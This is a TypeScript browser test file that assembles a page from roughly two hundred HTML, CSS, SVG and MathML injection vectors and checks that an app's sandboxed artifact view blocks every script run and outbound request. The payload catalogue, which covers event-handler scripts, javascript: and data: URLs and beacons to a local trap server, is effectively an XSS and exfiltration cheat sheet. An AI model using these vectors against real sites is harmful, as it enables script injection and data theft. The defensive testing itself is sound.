/** A page under judgement that tries everything at once, where it is shown: in the app's frame, and at its own address. */
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect } from 'vitest';
import { test } from './fixtures.ts';
import { until } from './stage.ts';

/** What a script would do first. */
const REPORT = (trap: string, n: number): string =>
  `fetch('${trap}/ran-${n}');new Image().src='${trap}/ran-${n}'`;

/** Ways to make a browser ask somebody, given the address to ask. */
const ASKING: readonly ((url: string) => string)[] = [
  ...[
    'img',
    'script',
    'iframe',
    'embed',
    'audio',
    'video',
    'source',
    'track',
    'frame',
    'input type=image',
  ].map((tag) => (url: string) => `<${tag} src="${url}"></${tag.split(' ', 1)[0]}>`),
  ...[
    'stylesheet',
    'icon',
    'preload',
    'prefetch',
    'prerender',
    'preconnect',
    'dns-prefetch',
    'modulepreload',
    'manifest',
    'import',
  ].map((rel) => (url: string) => `<link rel="${rel}" href="${url}" as="script">`),
  ...[
    'background',
    'list-style-image',
    'border-image',
    'cursor',
    'mask-image',
    'content',
    'filter',
    'clip-path',
    'shape-outside',
  ].map(
    (property) => (url: string) =>
      `<p style="${property}:url('${url}')">x</p><style>p::before{${property}:url('${url}')}</style>`,
  ),
  ...['image', 'use', 'feImage', 'a', 'script', 'animate', 'textPath'].map(
    (tag) => (url: string) =>
      `<svg width=9 height=9><${tag} href="${url}" xlink:href="${url}" width=9 height=9></${tag}></svg>`,
  ),
  (url) => `<img srcset="${url} 1x, ${url}2 2x">`,
  (url) => `<picture><source srcset="${url}"><img alt=""></picture>`,
  (url) => `<object data="${url}"></object><object><param name="movie" value="${url}"></object>`,
  (url) => `<video poster="${url}"></video>`,
  (url) =>
    `<style>@import url("${url}");@font-face{font-family:x;src:url("${url}")}body{font-family:x}</style>`,
  (url) => `<style>@namespace url("${url}");@document url("${url}"){}</style>`,
  (url) => `<body background="${url}"><table background="${url}"><td background="${url}">x</td></table>`,
  (url) => `<meta http-equiv="refresh" content="0;url=${url}">`,
  (url) => `<meta http-equiv="Link" content="<${url}>; rel=stylesheet">`,
  (url) => `<base href="${url}/"><img src="relative">`,
  (url) => `<form action="${url}" id="f"></form><button form="f" formaction="${url}" autofocus>x</button>`,
  (url) => `<a href="${url}" ping="${url}" target="_top" class="go">x</a>`,
  (url) => `<details open ontoggle="fetch('${url}')"><summary>x</summary></details>`,
  (url) => `<iframe srcdoc="<img src='${url}'><script>fetch('${url}')</script>"></iframe>`,
  (url) => `<math><maction actiontype="statusline" xlink:href="${url}">x</maction></math>`,
  (url) => `<portal src="${url}"></portal><fencedframe src="${url}"></fencedframe>`,
  (url) => `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${url}"]}]}</script>`,
  (url) =>
    `<script type="importmap">{"imports":{"x":"${url}"}}</script><script type="module">import 'x'</script>`,
  (url) => `<template shadowrootmode="open"><img src="${url}"><slot></slot></template>`,
  (url) => `<noscript><img src="${url}"></noscript>`,
];

/** Ways to run a script, given what it would say. */
const RUNNING: readonly ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `<script type="module">${script}</script>`,
  (script) => `<script src="data:text/javascript,${encodeURIComponent(script)}"></script>`,
  (script) => `<a href="javascript:${script}" class="go">x</a>`,
  (script) => `<iframe src="javascript:${script}"></iframe>`,
  (script) => `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  (script) => `<object data="data:text/html,<script>${script}</script>"></object>`,
  (script) =>
    `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>${script}</script></svg>">`,
  (script) => `<svg><script>${script}</script></svg>`,
  (script) => `<svg><a href="javascript:${script}" class="go"><text y="9">x</text></a></svg>`,
  (script) =>
    `<svg><animate attributeName="href" values="javascript:${script}" onbegin="${script}"></animate></svg>`,
  (script) => `<svg><set attributeName="onmouseover" to="${script}"></set></svg>`,
  (script) => `<math><mi xlink:href="javascript:${script}">x</mi></math>`,
  (script) => `<form action="javascript:${script}"><button class="go">x</button></form>`,
  (script) => `<button formaction="javascript:${script}" class="go">x</button>`,
  (script) => `<meta http-equiv="refresh" content="0;url=javascript:${script}">`,
  (script) => `<style>*{background:url("javascript:${script}")}</style>`,
  ...[
    'onload',
    'onerror',
    'onfocus',
    'onanimationstart',
    'ontransitionend',
    'onpointerover',
    'onclick',
    'onbeforetoggle',
    'onscroll',
  ].flatMap((handler) => [
    (script: string) => `<img src="x" ${handler}="${script}" class="go" tabindex="0" alt="x">`,
    (script: string) => `<input autofocus ${handler}="${script}" class="go">`,
    (script: string) => `<svg ${handler}="${script}" width="9" height="9"></svg>`,
    (script: string) => `<details open ${handler}="${script}"><summary class="go">x</summary></details>`,
  ]),
];

function hostilePage(app: string, trap: string): { html: string; cases: number } {
  const asking = [`${trap}/asked`, `${app}/api/entry`, '//127.0.0.1:1/x'].flatMap((url, place) =>
    ASKING.map((write, n) => write(`${url}?${place}-${n}`)),
  );
  const running = RUNNING.map((write, n) => write(REPORT(trap, n).replaceAll('"', '&quot;')));
  const body = [...asking, ...running].join('\n');
  return {
    html: `<!doctype html><html lang="en"><head><title>Tries everything</title></head><body><h1>Hello</h1>\n${body}\n</body></html>`,
    cases: asking.length + running.length,
  };
}

/** A server that hears of everything that gets out. Asked for `/page` it shows the page itself, with nothing around it. */
async function openTrap(page = '') {
  const caught: string[] = [];
  const server = createServer((request, response) => {
    if (request.url === '/page') return response.setHeader('Content-Type', 'text/html').end(page);
    caught.push(`${request.method} ${request.url}`);
    return response.setHeader('Access-Control-Allow-Origin', '*').end('caught');
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    caught,
    async [Symbol.asyncDispose]() {
      server.closeAllConnections();
      server.close();
      await once(server, 'close');
    },
  };
}

test('the page that tries everything is dangerous where nothing holds it', async ({ stage, blank }) => {
  await using victim = await openTrap();
  const { html } = hostilePage(stage.url, victim.url);
  await using site = await openTrap(html);
  const page = await blank();
  await page.goto(`${site.url}/page`).catch(() => {});
  const kinds = () => new Set(victim.caught.map((line) => /\/(?:asked\?\d|ran)-\d+/.exec(line)?.[0]));
  await until(
    async () => kinds().size,
    (count) => count > 30,
  );
});

test('a page that tries everything at once runs nothing and reaches nobody, in the frame and by itself', async ({
  stage,
  blank,
}) => {
  await using trap = await openTrap();
  const { html, cases } = hostilePage(stage.url, trap.url);
  expect(cases).toBeGreaterThan(180);
  const { path, projectId, runId } = await stage.start({
    agent: 'grounded',
    browser: 'never',
    maxRounds: 1,
    artifact: { content: html, mime: 'text/html' },
  });
  await stage.finished(projectId, runId);
  const page = await blank();
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  // What the policy refuses is announced as a request as well, and never gets an answer.
  const answered: string[] = [];
  page.context().on('response', (response) => {
    const { pathname, origin } = new URL(response.url());
    if (origin !== stage.url || /^\/(?:api\/entry|relative|x)$/.test(pathname)) answered.push(response.url());
  });

  await page.goto(`${stage.url}${path}`);
  const frame = page.frameLocator('iframe[title^="Page of round"]');
  await frame.getByRole('heading', { name: 'Hello' }).waitFor();
  const inFrame = frame.locator('.go');
  for (let n = 0; n < (await inFrame.count()); n++) await inFrame.nth(n).dispatchEvent('click');
  expect(new URL(page.url()).pathname).toBe(path);

  const alone = await page.context().newPage();
  await alone.goto(`${stage.url}/api${path}/rounds/1/artifact`);
  await alone.getByRole('heading', { name: 'Hello' }).waitFor();
  expect(new URL(alone.url()).pathname).toBe(`/api${path}/rounds/1/artifact`);
  expect(await alone.evaluate(() => globalThis.origin)).toBe('null');

  expect({ caught: trap.caught, dialogs, answered }).toEqual({ caught: [], dialogs: [], answered: [] });
});
